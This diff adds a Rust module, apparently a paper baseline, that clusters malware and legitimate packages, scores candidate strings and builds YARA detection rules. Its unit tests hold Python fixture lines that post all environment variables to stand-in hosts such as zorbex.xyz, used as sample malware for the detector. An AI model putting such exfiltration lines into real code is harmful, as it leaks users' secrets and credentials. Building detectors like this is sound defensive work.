@@ -1,0 +1,320 @@
+//! The score-based rule generator (§V-A baseline 2).
+//!
+//! Pipeline: (1) cluster malware and legitimate packages into code groups
+//! (§III-B's K-Means); (2) per malware group, collect candidate strings;
+//! (3) score each candidate with isolation forest (×1.2), TF-IDF (×1.0)
+//! and information entropy (×0.8); (4) candidates whose blended score
+//! clears the 0.9 threshold fill the `strings:` section of a YARA rule
+//! template.
+
+use std::collections::HashSet;
+
+use oss_registry::Package;
+
+use crate::iforest::{string_features, IsolationForest};
+
+/// Paper weights (§V-A).
+pub const W_IFOREST: f64 = 1.2;
+/// TF-IDF weight.
+pub const W_TFIDF: f64 = 1.0;
+/// Entropy weight.
+pub const W_ENTROPY: f64 = 0.8;
+/// Selection threshold on the normalized blended score.
+pub const THRESHOLD: f64 = 0.9;
+
+/// One candidate string with its component scores.
+#[derive(Debug, Clone, PartialEq)]
+pub struct ScoredString {
+    /// The candidate text.
+    pub text: String,
+    /// Isolation-forest anomaly score (0..1).
+    pub iforest: f64,
+    /// TF-IDF score, normalized to 0..1 within the group.
+    pub tfidf: f64,
+    /// Shannon entropy, normalized by 6 bits.
+    pub entropy: f64,
+}
+
+impl ScoredString {
+    /// Weighted blend, normalized so a perfect candidate scores 1.0.
+    pub fn blended(&self) -> f64 {
+        (W_IFOREST * self.iforest + W_TFIDF * self.tfidf + W_ENTROPY * self.entropy)
+            / (W_IFOREST + W_TFIDF + W_ENTROPY)
+    }
+}
+
+/// Extracts candidate strings from source code: string literals and
+/// import targets longer than 6 characters.
+///
+/// Deliberately *not* call paths: the original score-based tools operate
+/// on strings extracted from binaries, which is why the baseline
+/// overfits to package-specific literals (URLs, paths) and generalizes
+/// worse than RuleLLM (Table VIII's score-based row).
+pub fn candidate_strings(code: &str) -> Vec<String> {
+    let module = pysrc::parse_module(code);
+    let mut out: Vec<String> = Vec::new();
+    let mut seen = HashSet::new();
+    for (s, _line) in pysrc::collect_strings(&module) {
+        if s.len() >= 6 && s.len() <= 120 && seen.insert(s.to_owned()) {
+            out.push(s.to_owned());
+        }
+    }
+    for import in pysrc::collect_imports(&module) {
+        if import.len() >= 6 && seen.insert(import.clone()) {
+            out.push(import);
+        }
+    }
+    out
+}
+
+/// Scores candidates of one malware group against a legitimate group.
+///
+/// TF = occurrence count across the malware group; DF = presence in the
+/// legitimate group (candidates common in benign code are worthless).
+pub fn score_group(
+    malware_codes: &[&str],
+    legit_codes: &[&str],
+    seed: u64,
+) -> Vec<ScoredString> {
+    // Sampling caps keep candidate extraction tractable at the paper's
+    // corpus size; document frequency is computed with one Aho-Corasick
+    // pass per document over the *full* text, so common strings are never
+    // mistaken for distinctive ones.
+    const MAX_CANDIDATE_DOCS: usize = 12;
+    const MAX_TF_DOCS: usize = 24;
+    const MAX_DF_DOCS: usize = 40;
+    const MAX_CANDIDATES: usize = 400;
+
+    let mut candidates: Vec<String> = Vec::new();
+    let mut seen = HashSet::new();
+    for code in malware_codes.iter().take(MAX_CANDIDATE_DOCS) {
+        for c in candidate_strings(code) {
+            if seen.insert(c.clone()) {
+                candidates.push(c);
+            }
+        }
+    }
+    candidates.truncate(MAX_CANDIDATES);
+    let tf_docs: Vec<&str> = malware_codes.iter().copied().take(MAX_TF_DOCS).collect();
+    let df_docs: Vec<&str> = legit_codes.iter().copied().take(MAX_DF_DOCS).collect();
+    if candidates.is_empty() {
+        return Vec::new();
+    }
+    // One multi-pattern pass per document gives exact containment counts.
+    let ac = textmatch::AhoCorasick::new(&candidates, textmatch::MatchKind::CaseSensitive);
+    let mut tf_counts = vec![0usize; candidates.len()];
+    for doc in &tf_docs {
+        for idx in doc_pattern_set(&ac, doc, candidates.len()) {
+            tf_counts[idx] += 1;
+        }
+    }
+    let mut df_counts = vec![0usize; candidates.len()];
+    for doc in &df_docs {
+        for idx in doc_pattern_set(&ac, doc, candidates.len()) {
+            df_counts[idx] += 1;
+        }
+    }
+    // Isolation forest over string feature vectors.
+    let features: Vec<Vec<f64>> = candidates.iter().map(|c| string_features(c)).collect();
+    let forest = IsolationForest::fit(&features, 64, 64, seed);
+
+    // TF-IDF: term frequency in the malware group, inverse document
+    // frequency over (sampled) legit docs.
+    let n_legit = df_docs.len().max(1) as f64;
+    let mut scored: Vec<ScoredString> = Vec::with_capacity(candidates.len());
+    let mut max_tfidf = 0f64;
+    for (i, cand) in candidates.iter().enumerate() {
+        let tf = tf_counts[i] as f64 / tf_docs.len().max(1) as f64;
+        let df = df_counts[i] as f64;
+        let idf = (n_legit / (1.0 + df)).ln().max(0.0) / n_legit.ln().max(1.0);
+        let tfidf = tf * idf;
+        max_tfidf = max_tfidf.max(tfidf);
+        scored.push(ScoredString {
+            text: cand.clone(),
+            iforest: forest.score(&features[i]),
+            tfidf,
+            entropy: (digest::shannon_entropy(cand.as_bytes()) / 6.0).min(1.0),
+        });
+    }
+    if max_tfidf > 0.0 {
+        for s in &mut scored {
+            s.tfidf /= max_tfidf;
+        }
+    }
+    scored.sort_by(|a, b| b.blended().total_cmp(&a.blended()));
+    scored
+}
+
+/// The set of candidate indices present in `doc` (one automaton pass).
+fn doc_pattern_set(
+    ac: &textmatch::AhoCorasick,
+    doc: &str,
+    n_candidates: usize,
+) -> Vec<usize> {
+    let mut present = vec![false; n_candidates];
+    for m in ac.find_all(doc.as_bytes()) {
+        present[m.pattern] = true;
+    }
+    present
+        .into_iter()
+        .enumerate()
+        .filter(|(_, p)| *p)
+        .map(|(i, _)| i)
+        .collect()
+}
+
+/// Fills the YARA rule template with the selected strings.
+pub fn rule_from_strings(name: &str, strings: &[&str]) -> String {
+    let mut out = format!(
+        "rule {name} {{\n    meta:\n        description = \"score-based signature\"\n        author = \"score-baseline\"\n    strings:\n"
+    );
+    for (i, s) in strings.iter().enumerate() {
+        let escaped = s
+            .replace('\\', "\\\\")
+            .replace('"', "\\\"")
+            .replace('\n', "\\n")
+            .replace('\t', "\\t");
+        out.push_str(&format!("        $s{i} = \"{escaped}\"\n"));
+    }
+    out.push_str("    condition:\n        any of them\n}\n");
+    out
+}
+
+/// End-to-end score-based generation: clusters both corpora, pairs each
+/// malware group against a legitimate group, and emits one rule per
+/// malware group from the above-threshold strings.
+pub fn generate_rules(
+    malware: &[&Package],
+    legit: &[&Package],
+    seed: u64,
+) -> Vec<String> {
+    if malware.is_empty() {
+        return Vec::new();
+    }
+    let embedder = embedding::Embedder::default();
+    let mal_codes: Vec<String> = malware.iter().map(|p| p.combined_source()).collect();
+    let legit_codes: Vec<String> = legit.iter().map(|p| p.combined_source()).collect();
+    let mal_vecs: Vec<Vec<f32>> = mal_codes
+        .iter()
+        .map(|c| embedder.embed_source(c).mean)
+        .collect();
+    let k = (malware.len() / 8).max(1);
+    let groups = cluster::group_with_threshold(&mal_vecs, k, cluster::PAPER_SIMILARITY_THRESHOLD)
+        .unwrap_or_default();
+
+    let legit_refs: Vec<&str> = legit_codes.iter().map(String::as_str).collect();
+    let mut rules = Vec::new();
+    for (gi, group) in groups.iter().enumerate() {
+        let codes: Vec<&str> = group.iter().map(|&i| mal_codes[i].as_str()).collect();
+        let scored = score_group(&codes, &legit_refs, seed ^ gi as u64);
+        let selected: Vec<&str> = scored
+            .iter()
+            .filter(|s| s.blended() >= THRESHOLD)
+            .take(8)
+            .map(|s| s.text.as_str())
+            .collect();
+        // Fall back to the top-2 candidates when the threshold selects
+        // nothing (the template always emits a rule per group, as the
+        // original score-based tools do).
+        let selected = if selected.is_empty() {
+            scored.iter().take(2).map(|s| s.text.as_str()).collect()
+        } else {
+            selected
+        };
+        if selected.is_empty() {
+            continue;
+        }
+        rules.push(rule_from_strings(&format!("score_based_g{gi}"), &selected));
+    }
+    rules
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use oss_registry::{Ecosystem, PackageMetadata, SourceFile};
+
+    fn pkg(name: &str, code: &str) -> Package {
+        Package::new(
+            PackageMetadata::new(name, "1.0"),
+            vec![SourceFile::new(format!("{name}/m.py"), code)],
+            Ecosystem::PyPi,
+        )
+    }
+
+    #[test]
+    fn candidates_include_strings_and_imports_not_calls() {
+        let code = "import socket\nrequests.post('https://zorbex.xyz/c', data=x)\n";
+        let cands = candidate_strings(code);
+        assert!(cands.iter().any(|c| c == "https://zorbex.xyz/c"));
+        assert!(cands.iter().any(|c| c == "socket"));
+        // Call paths are deliberately excluded (binary-style strings only).
+        assert!(!cands.iter().any(|c| c == "requests.post"));
+    }
+
+    #[test]
+    fn short_candidates_filtered() {
+        let cands = candidate_strings("x = 'ab'\n");
+        assert!(cands.is_empty());
+    }
+
+    #[test]
+    fn malicious_url_outscores_common_boilerplate() {
+        let mal = ["requests.post('https://zorbex.xyz/collect', json=dict(os.environ))\nimport os\n"];
+        let legit = [
+            "import os\nprint('hello')\n",
+            "import os\nimport json\n",
+        ];
+        let scored = score_group(&mal, &legit, 1);
+        let url = scored
+            .iter()
+            .find(|s| s.text.contains("zorbex"))
+            .expect("url candidate");
+        let common = scored.iter().find(|s| s.text == "os");
+        if let Some(common) = common {
+            assert!(url.blended() > common.blended());
+        }
+        assert!(url.blended() > 0.5, "{}", url.blended());
+    }
+
+    #[test]
+    fn rule_template_compiles() {
+        let rule = rule_from_strings("score_based_g0", &["https://evil.example/x", "os.system"]);
+        assert!(yara_engine::compile(&rule).is_ok(), "{rule}");
+    }
+
+    #[test]
+    fn generate_rules_end_to_end() {
+        let m1 = pkg("m1", "import os, requests\nrequests.post('https://zorbex.xyz/c', data=dict(os.environ))\n");
+        let m2 = pkg("m2", "import os, requests\nrequests.post('https://bexlum.top/c', data=dict(os.environ))\n");
+        let l1 = pkg("l1", "def add(a, b):\n    return a + b\n");
+        let rules = generate_rules(&[&m1, &m2], &[&l1], 42);
+        assert!(!rules.is_empty());
+        for r in &rules {
+            assert!(yara_engine::compile(r).is_ok(), "{r}");
+        }
+    }
+
+    #[test]
+    fn blended_weighting() {
+        let s = ScoredString {
+            text: "x".into(),
+            iforest: 1.0,
+            tfidf: 1.0,
+            entropy: 1.0,
+        };
+        assert!((s.blended() - 1.0).abs() < 1e-9);
+        let half = ScoredString {
+            iforest: 1.0,
+            tfidf: 0.0,
+            entropy: 0.0,
+            ..s
+        };
+        assert!((half.blended() - 1.2 / 3.0).abs() < 1e-9);
+    }
+
+    #[test]
+    fn empty_input_no_rules() {
+        assert!(generate_rules(&[], &[], 1).is_empty());
+    }
+}
